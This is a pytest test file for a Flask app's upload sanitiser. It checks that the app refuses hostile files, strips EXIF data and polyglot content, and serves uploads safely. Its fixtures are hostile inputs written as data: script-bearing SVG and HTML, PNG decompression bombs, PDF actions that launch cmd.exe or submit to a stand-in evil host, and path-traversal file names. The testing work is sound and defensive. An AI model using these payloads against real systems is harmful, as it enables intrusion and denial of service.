"""Hostile files: refused with clear words or stored clean; the server lives, its memory is bounded (spec 5, security)."""

from __future__ import annotations

import io
import resource
import struct
import zlib
from typing import Any

import pytest
from flask import Flask
from PIL import Image
from sqlalchemy import func, select

from app.catalogue.models import Category
from app.evidence import content as contents
from app.evidence.models import EvidenceFile
from app.evidence.services import safe_name
from app.kernel.database import db
from app.kernel.errors import Invalid
from tests.support.proof import measured
from tests.support.story import log_in, post

SQLITE = pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
MARK = b"HIDDEN-PAYLOAD-4711"


def picture(kind: str = "PNG", size: tuple[int, int] = (64, 48), **more: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, kind, **more)
    return out.getvalue()


def _with_gps() -> bytes:
    """A photo as a telephone takes it: where, with what, when, and lying on its side."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x0112] = "SpyPhone", "Model-4711", 6
    exif.get_ifd(0x8825).update({1: "N", 2: (23.0, 8.0, 12.5), 3: "E", 4: (113.0, 16.0, 1.5)})
    return picture("JPEG", exif=exif, comment=MARK)


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """Some kilobytes that would be gigabytes of pixels."""
    packed = zlib.compress(b"\0" * (min(width, 30_000) // 8 + 1) * 200, 9)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


def _text_bomb() -> bytes:
    """A picture whose comment unpacks to 200 MB."""
    plain, packer = picture(), zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1_000_000)) for _ in range(200)) + packer.flush()
    return plain[:33] + _chunk(b"zTXt", b"Comment\0\0" + packed) + plain[33:]


def pdf(*objects: bytes) -> bytes:
    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    pages = b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    return b"%PDF-1.7\n" + catalog + pages + b"".join(objects) + b"trailer << /Root 1 0 R >>\n%%EOF\n"


REFUSED: dict[str, bytes] = {
    "SVG as png": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "HTML as png": b"<!doctype html><script>alert(1)</script>",
    "HTML after a byte order mark": b"\xef\xbb\xbf<html><script>alert(1)</script>",
    "a program": b"MZ\x90\0" + bytes(200),
    "ELF": b"\x7fELF" + bytes(200),
    "a zip": b"PK\x03\x04" + bytes(200),
    "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n",
    "WebP": b"RIFF\x24\0\0\0WEBPVP8 " + bytes(40),
    "TIFF": picture("TIFF"),
    "BMP": picture("BMP"),
    "a PDF where pictures are asked for": pdf(),
    "nothing": b"",
    "PNG signature only": b"\x89PNG\r\n\x1a\n",
    "JPEG start only": b"\xff\xd8\xff",
    "GIF start only": b"GIF89a",
    "a cut off PNG": picture()[:60],
    "PNG of enormous size": _bomb(),
    "PNG of impossible size": _bomb(2**31 - 1, 2**31 - 1),
    "PNG of no size": _bomb(0, 0),
}  # fmt: skip
ACTIVE: dict[str, bytes] = {
    "script": b"3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n",
    "script, name escaped": b"3 0 obj\n<< /S /Java#53cript /JS (app.alert(1)) >>\nendobj\n",
    "launch": b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n",
    "open action": b"3 0 obj\n<< /OpenAction 4 0 R >>\nendobj\n",
    "attachment": b"3 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n",
    "form that sends": b"3 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj\n",
    "XFA": b"3 0 obj\n<< /AcroForm << /XFA 5 0 R >> >>\nendobj\n",
    "rich media": b"3 0 obj\n<< /Subtype /RichMedia >>\nendobj\n",
    "remote go-to": b"3 0 obj\n<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>\nendobj\n",
    "script in a packed stream": b"3 0 obj\n<< /Filter /FlateDecode >>\nstream\n"
    + zlib.compress(b"<< /S /JavaScript /JS (x) >>") + b"\nendstream\nendobj\n",
    "password": b"3 0 obj\n<< /Encrypt 6 0 R >>\nendobj\n",
}  # fmt: skip


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_no_picture_is_refused_in_words(what: str) -> None:
    with pytest.raises(Invalid) as refused:
        contents.clean(REFUSED[what], contents.IMAGES)
    assert refused.value.code in ("file_type", "file_broken", "file_pixels")


@pytest.mark.parametrize("what", ACTIVE)
def test_active_pdfs_are_refused(what: str) -> None:
    with pytest.raises(Invalid) as refused:
        contents.clean(pdf(ACTIVE[what]), contents.PDF)
    assert refused.value.code in ("file_active", "file_locked")


def test_a_still_pdf_passes() -> None:
    assert (
        contents.clean(pdf(b"3 0 obj\n<< /Type /Page >>\nendobj\n"), contents.PDF).media_type
        == "application/pdf"
    )


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF"])
def test_polyglots_come_out_as_pictures_only(kind: str) -> None:
    """Behind, between and within: whatever isn't pixels is gone."""
    plain = picture(kind)
    for hidden in (
        b"<script>alert(1)</script>" + MARK,
        b"PK\x03\x04" + MARK + b"PK\x05\x06" + bytes(18),
        pdf() + MARK,
        b"<?php " + MARK,
    ):
        clean = contents.clean(plain + hidden, contents.IMAGES)
        assert MARK not in clean.content
        assert hidden[:6] not in clean.content
        assert Image.open(io.BytesIO(clean.content)).format == kind
        assert Image.open(io.BytesIO(clean.thumbnail)).format == "JPEG"


def test_where_and_with_what_a_photo_was_taken_is_gone_and_it_stands_upright() -> None:
    taken = _with_gps()
    assert b"SpyPhone" in taken, "control"
    clean = contents.clean(taken, contents.IMAGES)
    drawn = Image.open(io.BytesIO(clean.content))
    assert dict(drawn.getexif()) == {}
    assert drawn.size == (48, 64)
    for content in (clean.content, clean.thumbnail):
        for trace in (b"SpyPhone", b"Model-4711", b"Exif", MARK):
            assert trace not in content


def test_comments_of_png_and_gif_are_gone() -> None:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", MARK.decode(), zip=True)
    info.add_text("XML:com.adobe.xmp", MARK.decode())
    assert MARK not in contents.clean(picture("PNG", pnginfo=info), contents.IMAGES).content
    assert MARK not in contents.clean(picture("GIF", comment=MARK), contents.IMAGES).content


def test_without_drawing_anew_it_would_all_stay_mutant() -> None:
    """The control: the same file, taken as it is."""
    assert MARK in _with_gps()
    assert MARK in picture() + MARK
    assert contents.sniff(picture() + MARK) == "image/png", "its first bytes alone say nothing about the rest"


def test_bombs_are_refused_before_they_swell() -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for bomb in (_bomb(), _bomb(12_000, 12_000), _text_bomb()):
        assert len(bomb) < 1_000_000
        try:
            contents.clean(bomb, contents.IMAGES)
        except Invalid:
            continue
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024
    assert grown < 120, f"{grown} MB more"
    measured(
        "files", f"{len(REFUSED) + len(ACTIVE)} kinds refused in words; three bombs: {grown} MB more memory"
    )


def test_names_are_for_people_only() -> None:
    for name in ("../../etc/passwd", "..\\..\\boot.ini", "/etc/shadow", "a/b/../c.png", "C:\\x\\证书.png"):
        assert "/" not in safe_name(name, "image/png")
        assert "\\" not in safe_name(name, "image/png")
    assert safe_name("证书\u202egnp.exe", "image/png") == "证书gnp.exe.png"
    assert safe_name("", "image/png") == "file.png"
    assert safe_name("\0\r\n\t", "image/png") == "file.png"
    assert len(safe_name("长" * 5000, "image/png")) <= 130
    assert safe_name("身份证.png", "image/png") == "身份证.png"


@SQLITE
def test_the_page_refuses_in_words_and_keeps_nothing(demo: Flask) -> None:
    category = db.session.scalars(select(Category).where(Category.code == "performance_work")).one()
    line = category.requirements[0]
    count = db.session.scalar(select(func.count()).select_from(EvidenceFile))
    client = log_in(demo, "learner")
    for what in (
        "SVG as png",
        "HTML as png",
        "PNG of enormous size",
        "a cut off PNG",
        "a PDF where pictures are asked for",
    ):
        data = {
            "name": "仓储管理工作", "issuer": "某公司", "obtained_on": "2021-03-01",
            f"evidence_{line.id}": (io.BytesIO(REFUSED[what]), "证明.png", "image/png"),
        }  # fmt: skip
        answer = post(client, f"/me/achievements/add?category={category.id}", data)
        assert answer.status_code in (400, 422), what
        assert "invalid-feedback" in answer.text or "alert" in answer.text
        assert "<svg xmlns" not in answer.text
    db.session.rollback()
    assert db.session.scalar(select(func.count()).select_from(EvidenceFile)) == count


@SQLITE
def test_files_are_served_so_that_nothing_in_them_runs(demo: Flask) -> None:
    client = log_in(demo, "center")
    key = db.session.scalars(select(EvidenceFile.id).limit(1)).one()
    for address in (f"/evidence/{key}", f"/evidence/{key}/thumb"):
        answer = client.get(address)
        assert answer.status_code == 200
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in answer.headers["Content-Security-Policy"]
        assert answer.headers["Content-Disposition"].startswith("inline; filename=")
        assert "no-store" in answer.headers["Cache-Control"]
        assert answer.mimetype in ("image/jpeg", "image/png", "image/gif")
